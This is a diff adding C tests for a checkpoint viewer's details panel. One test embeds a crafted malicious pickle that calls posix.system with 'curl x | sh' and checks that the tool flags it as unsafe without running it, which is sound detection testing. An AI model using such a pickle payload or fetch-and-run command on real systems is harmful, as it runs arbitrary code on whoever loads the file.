@@ -1,6 +1,7 @@
 /* Whole panels as text. */
 #include "show/panels.h"
 
+#include <stdio.h>
 #include <string.h>
 #include <unistd.h>
 
@@ -45,7 +46,7 @@ static struct session *cifarnet(void)
 
 static void go(struct scene *s, const char *name)
 {
-    browse_go(s->explorer.browse, sample_place(s->session, name));
+    browse_go(s->explorer.browse, *name ? sample_place(s->session, name) : 0);
 }
 
 /* All lines of a panel, ends of blanks cut, below its title. */
@@ -222,4 +223,107 @@ TEST(a_contact_sheet_shows_channels_in_one_scale)
     lines_release(&lines);
     buf_release(&text);
     arena_release(&arena);
+}
+
+/* A pickle in a file of its own, which is gone once it is open. */
+static struct session *pickled(const char *name, const char *pickle, size_t n)
+{
+    struct session *session;
+    FILE *file = fopen(name, "wb");
+
+    CHECK(file);
+    CHECK(fwrite(pickle, 1, n, file) == n);
+    CHECK(fclose(file) == 0);
+    session = session_open(name, NULL, NULL);
+    unlink(name);
+    return session;
+}
+
+#define UNSAFE_NAME "/tmp/unsafe_panels_test.pkl"
+
+TEST(details_of_an_unsafe_file_begin_with_what_a_load_would_run)
+{
+    static const char pickle[] =
+        "\x80\x02}q\0(U\x05"
+        "epochK\x0cU\x04"
+        "bestcposix\nsystem\nU\x0b"
+        "curl x | sh\x85RU\x01rccollections\nOrderedDict\n)Ru.";
+    struct scene s;
+
+    scene_begin(&s, pickled(UNSAFE_NAME, pickle, sizeof pickle - 1));
+    CHECK_STR(
+        shown(&s, PANEL_DETAILS, 80, 20),
+        "── unsafe_panels_test.pkl\n"
+        " ✗ UNSAFE  a plain torch.load() would run a program. torchoscope ran "
+        "nothing.\n"
+        "   call    posix.system(\"curl x | sh\")\n"
+        "   where   unsafe_panels_test.pkl  byte 21 GLOBAL  byte 49 REDUCE\n"
+        " globals   ✗ posix.system                  1 call   runs a shell command\n"
+        "           ✓ collections.OrderedDict       1 call   builds a dictionary\n"
+        " format    pickle (protocol 2), 82B\n"
+        " holds     a dict with 3 keys: 0 tensors\n");
+    CHECK(explorer_next_alarm(&s.explorer));
+    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "best"));
+    CHECK_STR(buf_cstr(&s.explorer.message),
+              "✗ a load would run posix.system   1 of 1");
+    CHECK(strstr(shown(&s, PANEL_DETAILS, 80, 20),
+                 "── safety of unsafe_panels_test.pkl\n"));
+    CHECK(strstr(shown(&s, PANEL_DETAILS, 80, 20), "byte 49 REDUCE"));
+    scene_end(&s);
+}
+
+TEST(details_of_a_module_and_its_tensors_say_where_enter_leads)
+{
+    struct panel_state *state;
+    struct scene s;
+
+    scene_begin(&s, sample_session());
+    state = &s.explorer.panels[PANEL_DETAILS];
+    go(&s, "a");
+    CHECK_STR(shown(&s, PANEL_DETAILS, 60, 20),
+              "── a\n"
+              " Linear  8 params  32B\n"
+              " class      torch.nn.modules.linear.Linear\n"
+              " holds      2 tensors\n"
+              " trained    6 of 8 trainable\n"
+              "   ⇄ weight  2×3 float32  tied: also b.weight        6        24B\n"
+              "   ▪ bias  2 float32                                 2         8B\n");
+    state->cursor = 5;
+    CHECK(act(&s, PANEL_DETAILS, ACT_ENTER));
+    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "a.bias"));
+    go(&s, "b.weight");
+    CHECK_STR(shown(&s, PANEL_DETAILS, 60, 20),
+              "── b.weight\n"
+              " shape      2×3   6 values   24B\n"
+              " dtype      float32\n"
+              " role       parameter, requires grad\n"
+              " strides    [3, 1]  offset 0  storage 0, 24B\n"
+              " saved from cpu\n"
+              " tied       to a.weight\n");
+    state->cursor = 5;
+    CHECK(act(&s, PANEL_DETAILS, ACT_ENTER));
+    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "a.weight"));
+    state->cursor = 0;
+    CHECK(!act(&s, PANEL_DETAILS, ACT_ENTER));
+    scene_end(&s);
+}
+
+TEST(a_recording_that_raised_opens_at_the_module_that_did)
+{
+    struct scene s;
+
+    scene_begin(&s, session_of_run(sample_run(1), NULL));
+    CHECK(s.explorer.panels[PANEL_DETAILS].open);
+    CHECK_INT(explorer_place(&s.explorer), sample_place(s.session, "a"));
+    CHECK(strstr(shown(&s, PANEL_DETAILS, 60, 20), "── a\n"
+                                                   " ✗ raised   ValueError: no\n"
+                                                   "   weight   wants …×3\n"
+                                                   " Linear  8 params  32B\n"));
+    go(&s, "tail");
+    CHECK(strstr(shown(&s, PANEL_DETAILS, 60, 20),
+                 " not reached: an exception came first\n"));
+    go(&s, "");
+    CHECK(
+        strstr(shown(&s, PANEL_DETAILS, 60, 20), " ✗ alarm   a raised ValueError: no"));
+    scene_end(&s);
 }
